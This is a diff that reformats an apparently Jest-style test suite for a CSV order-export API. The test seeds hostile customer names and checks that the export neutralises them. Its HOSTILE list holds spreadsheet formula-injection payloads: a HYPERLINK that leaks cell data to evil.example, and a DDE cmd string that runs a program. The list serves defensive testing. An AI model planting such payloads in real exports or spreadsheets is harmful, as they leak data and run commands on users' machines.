@@ -13,9 +13,29 @@ import { peersEnv, startWorkerProcess } from './helpers/worker-process';
 
 const t = useTestApp({ workers: ['exports'] });
 const admin = () => as('admin');
-const HEADER = ['orderId', 'orderDate', 'status', 'customerId', 'customerEmail', 'customerName', 'itemCount', 'totalAmount', 'cancelledAt', 'shippedCarrier', 'trackingNumber'];
+const HEADER = [
+  'orderId',
+  'orderDate',
+  'status',
+  'customerId',
+  'customerEmail',
+  'customerName',
+  'itemCount',
+  'totalAmount',
+  'cancelledAt',
+  'shippedCarrier',
+  'trackingNumber',
+];
 // Names a customer could give, each aimed at a spreadsheet or at a naive CSV writer.
-const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+91 98450 12345', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\tTabbed Name', 'Doe, "Jr."\r\nSecond line', 'Ünïcødé 名前 Ω'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+  '+91 98450 12345',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(A1:A9)',
+  '\tTabbed Name',
+  'Doe, "Jr."\r\nSecond line',
+  'Ünïcødé 名前 Ω',
+];
 const inMarch = (i: number) => new Date(Date.UTC(2026, 2, 1 + (i % 31), i % 24, i % 60, i % 60));
 
 /**
@@ -36,16 +56,23 @@ async function seedOrders(n: number, shape: (i: number) => Record<string, unknow
 
 /** The export once its job has finished, completed or not. */
 const finished = (exportId: string) =>
-  eventually(async () => {
-    const res = await request(t.app).get(`/api/orders/exports/${exportId}`).set(admin());
-    return ['completed', 'failed'].includes(res.body.data?.state) ? res.body.data : null;
-  }, 60_000, `export ${exportId} to finish`);
+  eventually(
+    async () => {
+      const res = await request(t.app).get(`/api/orders/exports/${exportId}`).set(admin());
+      return ['completed', 'failed'].includes(res.body.data?.state) ? res.body.data : null;
+    },
+    60_000,
+    `export ${exportId} to finish`,
+  );
 
 /** Every order id `GET /api/orders` lists for these filters, page by page. */
 async function listed(filters: Record<string, string>): Promise<string[]> {
   const ids: string[] = [];
   for (let page = 1; page <= 100; page++) {
-    const res = await request(t.app).get('/api/orders').query({ ...filters, limit: '50', page: String(page) }).set(admin());
+    const res = await request(t.app)
+      .get('/api/orders')
+      .query({ ...filters, limit: '50', page: String(page) })
+      .set(admin());
     if (res.status !== 200) throw new Error(`listing answered ${res.status}`);
     ids.push(...res.body.data.orders.map((o: { orderId: string }) => o.orderId));
     if (!res.body.data.pagination.hasNextPage) return ids;
@@ -65,7 +92,15 @@ describe('order exports', () => {
         customerEmail: `buyer${i}@example.com`,
         customerId: i % 7 === 0 ? null : `c-${i}`,
         cancelledAt: status === 'Cancelled' ? new Date(inMarch(i).getTime() + 3_600_000) : null,
-        shipment: status === 'Shipped' ? { carrier: i % 8 === 2 ? '=Evil Carrier' : 'Blue Dart', trackingNumber: i % 8 === 2 ? '-BD123' : `BD-${i}`, trackingUrl: null, shippedAt: inMarch(i) } : null,
+        shipment:
+          status === 'Shipped'
+            ? {
+                carrier: i % 8 === 2 ? '=Evil Carrier' : 'Blue Dart',
+                trackingNumber: i % 8 === 2 ? '-BD123' : `BD-${i}`,
+                trackingUrl: null,
+                shippedAt: inMarch(i),
+              }
+            : null,
       };
     });
     // Decoys: one day too late, or too cheap.
@@ -73,7 +108,10 @@ describe('order exports', () => {
     await seedOrders(50, (i) => ({ orderDate: inMarch(i), totalAmount: 49_999 }));
     const filters = { from: '2026-03-01', to: '2026-03-31', minAmount: '500', maxAmount: '2000' };
 
-    const queued = await request(t.app).post('/api/orders/exports').set(admin()).send({ format: 'csv', from: filters.from, to: filters.to, minAmount: 500, maxAmount: 2000 });
+    const queued = await request(t.app)
+      .post('/api/orders/exports')
+      .set(admin())
+      .send({ format: 'csv', from: filters.from, to: filters.to, minAmount: 500, maxAmount: 2000 });
     expect(queued.status).toBe(202);
     const done = await finished(queued.body.data.exportId);
     const file = await request(t.app).get(`/api/orders/exports/${done.exportId}/download`).set(admin()).buffer(true);
@@ -87,7 +125,9 @@ describe('order exports', () => {
     expect(header).toEqual(HEADER);
     expect(rows.map((r) => r[0]).sort()).toEqual((await listed(filters)).sort());
 
-    const orders = new Map((await Order.find({ orderId: { $in: rows.map((r) => r[0]) } }).lean()).map((o) => [o.orderId, o]));
+    const orders = new Map(
+      (await Order.find({ orderId: { $in: rows.map((r) => r[0]) } }).lean()).map((o) => [o.orderId, o]),
+    );
     const asText = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
     for (const row of rows) {
       const o = orders.get(row[0]);
@@ -119,13 +159,25 @@ describe('order exports', () => {
 
     const early = await request(t.app).get(`/api/orders/exports/${pending._id}/download`).set(admin());
     const status = await request(t.app).get(`/api/orders/exports/${pending._id}`).set(admin());
-    const unknown = await request(t.app).get(`/api/orders/exports/exp_${'0'.repeat(24)}/download`).set(admin());
+    const unknown = await request(t.app)
+      .get(`/api/orders/exports/exp_${'0'.repeat(24)}/download`)
+      .set(admin());
 
     expect(early.status).toBe(409);
-    expect(early.body).toMatchObject({ success: false, errors: [{ field: 'state', message: expect.stringContaining('queued') }] });
+    expect(early.body).toMatchObject({
+      success: false,
+      errors: [{ field: 'state', message: expect.stringContaining('queued') }],
+    });
     expect(status.body.data).toMatchObject({ state: 'queued', rowCount: null, progress: { done: 0, total: 0 } });
     expect(unknown.status).toBe(404);
-    for (const body of [{ format: 'xlsx' }, {}, { format: 'csv', minAmount: 10, maxAmount: 5 }, { format: 'csv', from: 'yesterday' }, { format: 'csv', status: 'Lost' }, { format: 'csv', extra: 1 }]) {
+    for (const body of [
+      { format: 'xlsx' },
+      {},
+      { format: 'csv', minAmount: 10, maxAmount: 5 },
+      { format: 'csv', from: 'yesterday' },
+      { format: 'csv', status: 'Lost' },
+      { format: 'csv', extra: 1 },
+    ]) {
       const res = await request(t.app).post('/api/orders/exports').set(admin()).send(body);
       expect(res.status).toBe(400);
       expect(res.body.success).toBe(false);
@@ -149,7 +201,15 @@ describe('order exports', () => {
 
   it('removes an expired export and its file on the scheduled maintenance, and leaves the others', async () => {
     const dir = resolve(config.EXPORT_DIR);
-    const exportOf = async (body: object) => finished((await request(t.app).post('/api/orders/exports').set(admin()).send({ format: 'csv', ...body })).body.data.exportId);
+    const exportOf = async (body: object) =>
+      finished(
+        (
+          await request(t.app)
+            .post('/api/orders/exports')
+            .set(admin())
+            .send({ format: 'csv', ...body })
+        ).body.data.exportId,
+      );
     const [old, fresh] = [await exportOf({ status: 'Placed' }), await exportOf({ status: 'Shipped' })];
     await OrderExport.updateOne({ _id: old.exportId }, { $set: { expiresAt: new Date(Date.now() - 1000) } });
     // A part file of a run that died two days ago, which no record owns.
@@ -161,7 +221,11 @@ describe('order exports', () => {
     expect((await request(t.app).get(`/api/orders/exports/${old.exportId}`).set(admin())).status).toBe(404);
     const worker = await startWorkerProcess({ ...peersEnv(t), WORKERS: 'upkeep', MAINTENANCE_INTERVAL_MS: '300' });
     t.onClose(() => worker.kill());
-    await eventually(async () => (await OrderExport.exists({ _id: old.exportId })) === null, 20_000, 'the expired export to be removed');
+    await eventually(
+      async () => (await OrderExport.exists({ _id: old.exportId })) === null,
+      20_000,
+      'the expired export to be removed',
+    );
 
     expect(existsSync(join(dir, `${old.exportId}.csv`))).toBe(false);
     expect(existsSync(stale)).toBe(false);
